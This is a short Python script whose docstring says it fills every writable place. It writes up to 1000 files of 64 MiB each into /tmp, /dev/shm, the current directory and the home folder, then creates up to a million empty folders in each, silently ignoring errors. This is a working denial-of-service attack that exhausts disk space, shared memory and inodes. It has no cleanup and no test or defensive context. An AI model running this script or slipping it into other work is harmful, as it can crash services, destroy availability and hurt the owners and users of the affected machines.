"""Fills every place that can be written."""

import os

for folder in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    try:
        for number in range(1000):
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(64):
                    file.write(bytes(2**20))
    except OSError:
        pass
    try:
        for number in range(10**6):
            os.mkdir(f"{folder}/folder{number}")
    except OSError:
        pass
